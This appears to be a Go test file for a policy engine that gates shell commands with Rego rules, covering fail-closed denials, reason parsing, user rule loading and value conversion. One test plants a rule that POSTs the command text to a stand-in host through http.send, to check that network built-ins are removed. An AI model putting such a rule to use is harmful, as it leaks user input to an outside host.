package policy

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/open-policy-agent/opa/v1/ast"
)

// engineFrom compiles an engine from the given Rego sources alone (no embedded
// bundle), to drive the engine's own failure paths.
func engineFrom(t *testing.T, timeout time.Duration, srcs ...string) *Engine {
	t.Helper()
	mods := map[string]*ast.Module{}
	for i, src := range srcs {
		name := filepath.Join("test", string(rune('a'+i))+".rego")
		m, err := ast.ParseModuleWithOpts(name, src, ast.ParserOptions{RegoVersion: ast.RegoV1})
		if err != nil {
			t.Fatal(err)
		}
		mods[name] = m
	}
	e, err := compile(context.Background(), mods, map[string]any{}, nil, Options{Timeout: timeout})
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func TestDecideFailsClosed(t *testing.T) {
	tests := []struct {
		name    string
		timeout time.Duration
		srcs    []string
		wantID  string
	}{
		{"undefined", 0, []string{"package gatesh\nother := 1\n"}, ReasonUndefined},
		{"bad action", 0, []string{`package gatesh
decision := {"action": "maybe", "class": "x", "reasons": []}
`}, ReasonMalformed},
		{"not an object", 0, []string{"package gatesh\ndecision := \"allow\"\n"}, ReasonMalformed},
		{"hold without reason", 0, []string{`package gatesh
decision := {"action": "hold", "class": "x", "reasons": []}
`}, ReasonMalformed},
		{"evaluation error", 0, []string{`package gatesh
decision := {"action": "allow", "class": to_number(input.text), "reasons": []}
`}, ReasonError},
		{"conflict", 0, []string{`package gatesh
decision := {"action": "allow", "class": "a", "reasons": []} if input.x
decision := {"action": "allow", "class": "b", "reasons": []} if input.x
`}, ReasonError},
		{"timeout", 20 * time.Millisecond, []string{`package gatesh
decision := {"action": "allow", "class": "x", "reasons": []} if {
	count([x | some x in numbers.range(1, 100000000); x % 7 == 3]) > 0
}
`}, ReasonTimeout},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := engineFrom(t, tt.timeout, tt.srcs...)
			input := ast.MustParseTerm(`{"text": "ls", "x": true}`).Value
			d, err := e.Decide(context.Background(), input)
			if err == nil {
				t.Fatalf("no error; decision %+v", d)
			}
			if d.Action != Deny || len(d.Reasons) != 1 || d.Reasons[0].ID != tt.wantID {
				t.Fatalf("got %+v (err %v), want a deny with reason %s", d, err, tt.wantID)
			}
			if d.Reasons[0].Msg == "" {
				t.Error("the deny carries no message")
			}
		})
	}
}

func TestDecideParsesReasons(t *testing.T) {
	e := engineFrom(t, 0, `package gatesh
decision := {"action": "hold", "class": "external", "reasons": [{"id": "git.push", "msg": "held", "class": "external", "cmd": 2}]}
`)
	d, err := e.Decide(context.Background(), ast.NewObject())
	if err != nil {
		t.Fatal(err)
	}
	if d.Action != Hold || d.Class != "external" || len(d.Reasons) != 1 {
		t.Fatalf("got %+v", d)
	}
	if r := d.Reasons[0]; r.ID != "git.push" || r.Msg != "held" || r.Cmd == nil || *r.Cmd != 2 {
		t.Fatalf("reason %+v", r)
	}
}

func TestLoadUserDirErrors(t *testing.T) {
	ctx := context.Background()
	t.Run("syntax error names the file", func(t *testing.T) {
		dir := t.TempDir()
		os.WriteFile(filepath.Join(dir, "mine.rego"), []byte("package gatesh.rules.mine\nhold contains x if {\n"), 0o644)
		_, err := Load(ctx, Options{UserDir: dir})
		if err == nil || !strings.Contains(err.Error(), "mine.rego") {
			t.Fatalf("err = %v, want one naming mine.rego", err)
		}
	})
	t.Run("network built-ins are removed", func(t *testing.T) {
		dir := t.TempDir()
		os.WriteFile(filepath.Join(dir, "leak.rego"), []byte(`package gatesh.rules.leak
hold contains {"id": "x", "msg": "m", "class": "opaque"} if {
	http.send({"method": "POST", "url": "https://x.example", "body": input.text})
}
`), 0o644)
		_, err := Load(ctx, Options{UserDir: dir})
		if err == nil || !strings.Contains(err.Error(), "http.send") {
			t.Fatalf("err = %v, want http.send to be unknown", err)
		}
	})
	t.Run("broken data file", func(t *testing.T) {
		dir := t.TempDir()
		os.WriteFile(filepath.Join(dir, "data.json"), []byte(`{"gatesh": `), 0o644)
		_, err := Load(ctx, Options{UserDir: dir})
		if err == nil || !strings.Contains(err.Error(), "data.json") {
			t.Fatalf("err = %v, want one naming data.json", err)
		}
	})
	t.Run("missing dir is fine", func(t *testing.T) {
		if _, err := Load(ctx, Options{UserDir: filepath.Join(t.TempDir(), "none")}); err != nil {
			t.Fatal(err)
		}
	})
}

func TestValueOfNilsBecomeEmpty(t *testing.T) {
	type inner struct {
		A []int `json:"a"`
	}
	type doc struct {
		inner
		S  []string          `json:"s"`
		M  map[string]string `json:"m"`
		P  *inner            `json:"p"`
		O  *inner            `json:"o,omitempty"`
		Sk string            `json:"-"`
	}
	v, err := ValueOf(doc{Sk: "secret"})
	if err != nil {
		t.Fatal(err)
	}
	want := ast.MustParseTerm(`{"a": [], "s": [], "m": {}, "p": null}`).Value
	if v.Compare(want) != 0 {
		t.Fatalf("got %v, want %v", v, want)
	}
}
